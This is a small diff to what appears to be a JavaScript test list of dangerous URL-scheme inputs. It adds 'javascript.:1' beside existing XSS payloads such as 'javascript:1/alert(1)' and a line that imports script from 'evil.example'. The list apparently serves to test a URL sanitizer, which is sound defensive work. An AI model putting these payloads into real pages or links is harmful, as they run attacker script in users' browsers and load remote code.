@@ -47,6 +47,7 @@ const script = [
   'javascript:import("//evil.example/x.js")',
   'javascript:1',
   'javascript:1/alert(1)',
+  'javascript.:1',
   'JavaScript:0?alert(1)',
   'vbscript:1#x',
   'jscript:alert(1)',
